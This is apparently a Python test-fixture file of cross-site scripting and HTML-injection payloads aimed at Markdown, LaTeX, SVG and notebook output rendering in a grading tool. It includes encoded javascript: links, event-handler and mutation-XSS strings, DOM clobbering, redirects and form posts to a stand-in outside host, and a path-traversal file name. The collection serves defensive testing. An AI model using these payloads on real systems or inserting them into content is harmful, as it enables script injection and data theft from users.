"""What a stranger might write so that a browser does something for him, by kind."""

OWN = "window.owned=1"
ELSEWHERE = "http://elsewhere.example"

MARKDOWN = {
    "link": f"[x](javascript:{OWN})",
    "link, capitals": f"[x](JaVaScRiPt:{OWN})",
    "link, entity": f"[x](java&#115;cript:{OWN})",
    "link, named entity": f"[x](javascript&colon;{OWN})",
    "link, backslash": f"[x](javascript\\:{OWN})",
    "link, tabulator": f"[x](java&#9;script:{OWN})",
    "link, newline": f"[x](java&NewLine;script:{OWN})",
    "link, control character": f"[x](&#1;javascript:{OWN})",
    "link, percent": f"[x](javascript%3A{OWN})",
    "link, angle brackets": f"[x](<javascript:{OWN}>)",
    "link, vbscript": f"[x](vbscript:{OWN})",
    "link, data": "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIub3duZWQ9MTwvc2NyaXB0Pg==)",
    "link, to this server": "[x](/logout) [y](//elsewhere.example/) [z](../../tree)",
    "autolink": f"<javascript:{OWN}>",
    "reference": f"[x][1]\n\n[1]: javascript:{OWN}",
    "reference, entity": f"[x][1]\n\n[1]: java&#x73;cript:{OWN}",
    "image": f"![x]({ELSEWHERE}/pixel.png)",
    "image, script": f"![x](javascript:{OWN})",
    "image, quote": f'![x"onerror="{OWN}](attachment:none)',
    "image, title": f"![x](attachment:none '\" onerror=\"{OWN}')",
    "image, SVG as data": f"![x](data:image/svg+xml,<svg onload='{OWN}'/>)",
    "HTML, script": f"<script>{OWN}</script>",
    "HTML, handler": f"<img src=x onerror={OWN}>",
    "HTML, handler after a slash": f"<img/src=x/onerror={OWN}>",
    "HTML, remote": f"<img src={ELSEWHERE}/a srcset={ELSEWHERE}/b><video poster={ELSEWHERE}/c>",
    "HTML, link": f'<a href="&#106;avascript:{OWN}" target=_top>x</a>',
    "HTML, details": f"<details open ontoggle={OWN}><summary>x</summary></details>",
    "HTML, form": f'<form action="{ELSEWHERE}"><input name=score autofocus onfocus={OWN}></form>',
    "HTML, button": f"<button formaction=javascript:{OWN}>Full credit</button>",
    "HTML, frame": "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "HTML, object": f"<object data=javascript:{OWN}></object><embed src=javascript:{OWN}>",
    "HTML, base": f"<base href={ELSEWHERE}/>",
    "HTML, refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "HTML, link element": f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    "HTML, style": f"<style>@import '{ELSEWHERE}/b.css'; * {{display: none}}</style>",
    "HTML, cover": "<div style='position:fixed;inset:0;background:red;z-index:99999'>x</div>",
    "HTML, class": "<div class='modal-backdrop fixed' id='proof'>x</div>",
    "HTML, clobbering": "<form id=formgrader><input name=init></form><img name=submission_id>",
    "HTML, unclosed": f"<textarea><plaintext><img src=x onerror={OWN}",
    "HTML, comment": f"<!--><img src=x onerror={OWN}>-->",
    "HTML, mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f"&lt;img src=1 onerror={OWN}&gt;'>",
    "HTML, template": f"<template><img src=x onerror={OWN}></template>",
    "SVG, handler": f"<svg onload={OWN}><animate onbegin={OWN} attributeName=x></svg>",
    "SVG, script": f"<svg><script>{OWN}</script><a href=javascript:{OWN}><text>x</text></a></svg>",
    "SVG, use": f"<svg><use href='{ELSEWHERE}/x.svg#a'/></svg>",
    "MathML, link": f"<math><mi href='javascript:{OWN}'>x</mi></math>",
    "MathML, embedded": f"<math><annotation-xml encoding='text/html'><img src=x onerror={OWN}>",
    "formula, link": f"$\\href{{javascript:{OWN}}}{{x}}$",
    "formula, style": "$\\style{position:fixed;inset:0;background:red}{x}\\class{modal}{y}$",
    "formula, HTML": f"$x<img src=x onerror={OWN}>$",
    "formula, huge": "$\\rule{9999em}{9999em}\\hspace{-9999em}\\raise 9999pt{x}$",
    "formula, require": "$\\require{html}\\cssId{proof}{x}\\unicode{x202e}$",
    "code": f"```html\n</code></pre><script>{OWN}</script>\n```",
    "code, language": f'```"><img/src=x/onerror={OWN}>\nx\n```',
    "heading": f"# <img src=x onerror={OWN}>",
    "table": f"| a |\n|---|\n| <img src=x onerror={OWN}> |",
    "overflow": "w" * 5000 + "\n\n" + "\u0334\u0300" * 2000 + "\n\n\u202eevil",
}

PAGE = f"<script>{OWN}</script><img src=x onerror={OWN}><img src={ELSEWHERE}/p.png>"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{OWN}"><script>{OWN}</script>'
    f'<image href="{ELSEWHERE}/s.png"/><foreignObject>{PAGE}</foreignObject><rect width="9"/></svg>'
)

OUTPUTS = {
    "HTML": {"text/html": PAGE},
    "HTML, isolated": {"text/html": PAGE},
    "Markdown": {"text/markdown": PAGE + f"[x](javascript:{OWN})"},
    "LaTeX": {"text/latex": f"$\\href{{javascript:{OWN}}}{{x}}$" + PAGE},
    "JavaScript": {"application/javascript": OWN, "text/javascript": OWN},
    "SVG": {"image/svg+xml": SVG},
    "PNG that is HTML": {"image/png": f'"><script>{OWN}</script>'},
    "PNG that is SVG": {"image/png": SVG},
    "PDF": {"application/pdf": f'"><script>{OWN}</script>'},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{PAGE}"}},
    "plot": {"application/vnd.plotly.v1+json": {"data": [{"x": PAGE}]}},
    "words": {"text/plain": PAGE + f"\x1b]8;;javascript:{OWN}\x1b\\x\x1b[31m"},
    "unknown": {f'text/x"><script>{OWN}</script>': PAGE},
}

NAMES = {
    "quote": f'x" onerror="{OWN}" y=".png',
    "tag": f"<img src=x onerror={OWN}>.png",
    "script": f"</script><script>{OWN}</script>",
    "address": f"javascript:{OWN}",
    "elsewhere": f"{ELSEWHERE}/x.png",
    "folder": "../../../../nbgrader_config.py",
}

METADATA = {
    "tags": [f'"><script>{OWN}</script>', "modal-backdrop"],
    "alt": f'"><script>{OWN}</script>',
    "raw_mimetype": "text/html",
    "coursework": "rubric",
    "needs_background": f'" onload="{OWN}',
    "isolated": True,
}
